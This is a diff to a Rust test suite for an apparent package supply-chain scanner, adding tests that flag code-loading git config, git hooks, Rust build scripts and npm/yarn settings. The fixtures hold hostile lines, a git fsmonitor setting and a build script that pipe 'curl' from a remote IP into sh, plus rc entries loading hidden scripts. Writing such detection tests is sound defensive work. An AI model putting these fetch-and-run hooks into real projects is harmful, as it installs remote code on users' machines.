@@ -125,20 +125,26 @@ fn padded_manifests_are_read_in_full() {
     });
 }
 
+/// Writes a gzipped tarball at `path` holding `files` (regular files only).
+fn write_tgz(path: &Path, files: &[(&str, &[u8])]) {
+    let file = std::fs::File::create(path).unwrap();
+    let gz = flate2::write::GzEncoder::new(file, flate2::Compression::default());
+    let mut tar = tar::Builder::new(gz);
+    for (name, bytes) in files {
+        let mut header = tar::Header::new_gnu();
+        header.set_size(bytes.len() as u64);
+        header.set_mode(0o755);
+        tar.append_data(&mut header, name, *bytes).unwrap();
+    }
+    tar.into_inner().unwrap().finish().unwrap();
+}
+
 #[test]
 fn a_padded_manifest_in_a_tarball_is_read_in_full() {
     let dir = package();
     let tgz = dir.path().join("padded-1.0.0.tgz");
-    let file = std::fs::File::create(&tgz).unwrap();
-    let gz = flate2::write::GzEncoder::new(file, flate2::Compression::default());
-    let mut tar = tar::Builder::new(gz);
     let manifest = padded_package_json(9 << 20);
-    let mut header = tar::Header::new_gnu();
-    header.set_size(manifest.len() as u64);
-    header.set_mode(0o644);
-    tar.append_data(&mut header, "package/package.json", manifest.as_bytes())
-        .unwrap();
-    tar.into_inner().unwrap().finish().unwrap();
+    write_tgz(&tgz, &[("package/package.json", manifest.as_bytes())]);
     let scan = scan(&tgz);
     scan.assert_blocked_at("package.json");
     scan.assert_within(&Bounds {
@@ -335,4 +341,80 @@ fn a_lone_7_8_mb_line_of_suspicious_words_in_skill_md_is_linear() {
         wall: Duration::from_secs(90),
         rss_mib: 384,
     });
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// Code a tool runs without a lifecycle script: git, npm and yarn settings, Rust build scripts
+
+const GIT_CONFIG: &str = "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = \"sh -c 'curl -s http://198.51.100.4/p.sh | sh'\"\n";
+
+#[test]
+fn a_shipped_git_config_and_hooks_are_scanned_in_a_folder_and_a_tarball() {
+    let dir = package();
+    write(dir.path(), "setup.py", "from setuptools import setup\nsetup(name='g', use_scm_version=True)\n");
+    write(dir.path(), ".git/config", GIT_CONFIG);
+    write(dir.path(), ".git/hooks/post-checkout", format!("#!/bin/sh\n{SH_PAYLOAD}"));
+    write(dir.path(), ".git/objects/ab/cdef", "not read");
+    let scan = scan(dir.path());
+    scan.assert_blocked_at(".git/config");
+    assert!(scan.has_finding("SUP018", ".git/config"), "{:?}", scan.findings());
+    assert!(scan.has_finding("SUP019", ".git/hooks/post-checkout"), "{:?}", scan.findings());
+    let reason = scan.skipped_reason(".git").unwrap_or_default();
+    assert!(reason.contains("config and hooks"), "{reason}");
+    scan.assert_within(&SMALL);
+
+    let tgz = dir.path().join("g-1.0.tar.gz");
+    write_tgz(
+        &tgz,
+        &[
+            ("g-1.0/setup.py", b"from setuptools import setup\nsetup(name='g')\n".as_slice()),
+            ("g-1.0/.git/config", GIT_CONFIG.as_bytes()),
+        ],
+    );
+    let scan = scan_with(&tgz, &[]);
+    assert!(scan.has_finding("SUP018", ".git/config"), "{:?}", scan.findings());
+    assert_eq!(scan.verdict(), "block");
+}
+
+#[test]
+fn a_rust_build_script_is_an_install_hook() {
+    let dir = package();
+    let build = "use std::process::Command;\nfn main() {\n    Command::new(\"sh\").arg(\"-c\").arg(\"curl -s http://198.51.100.4/p.sh | sh\").status().unwrap();\n}\n";
+    let crate_file = dir.path().join("hooked-0.1.0.crate");
+    write_tgz(
+        &crate_file,
+        &[
+            ("hooked-0.1.0/Cargo.toml", b"[package]\nname = \"hooked\"\nversion = \"0.1.0\"\nbuild = \"tools/gen.rs\"\n".as_slice()),
+            ("hooked-0.1.0/tools/gen.rs", build.as_bytes()),
+            ("hooked-0.1.0/src/lib.rs", b"pub fn f() {}\n".as_slice()),
+        ],
+    );
+    let scan = scan(&crate_file);
+    scan.assert_blocked_at("tools/gen.rs");
+    let finding = scan.report()["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["path"] == "tools/gen.rs")
+        .cloned()
+        .unwrap();
+    assert_eq!(finding["scope"], "package_root_artifact", "{finding}");
+    scan.assert_within(&SMALL);
+}
+
+#[test]
+fn npmrc_and_yarnrc_settings_that_load_code_are_findings() {
+    let dir = package();
+    write(
+        dir.path(),
+        "package.json",
+        r#"{"name": "rc", "version": "1.0.0", "scripts": {"test": "node test.js"}}"#,
+    );
+    write(dir.path(), ".npmrc", "node-options=--require ./lib/.cache/hook.js\n");
+    write(dir.path(), ".yarnrc.yml", "yarnPath: lib/.cache/yarn.cjs\n");
+    let scan = scan(dir.path());
+    assert!(scan.has_finding("SUP020", ".npmrc"), "{:?}", scan.findings());
+    assert!(scan.has_finding("SUP021", ".yarnrc.yml"), "{:?}", scan.findings());
+    assert_eq!(scan.verdict(), "block");
+    scan.assert_within(&SMALL);
 }
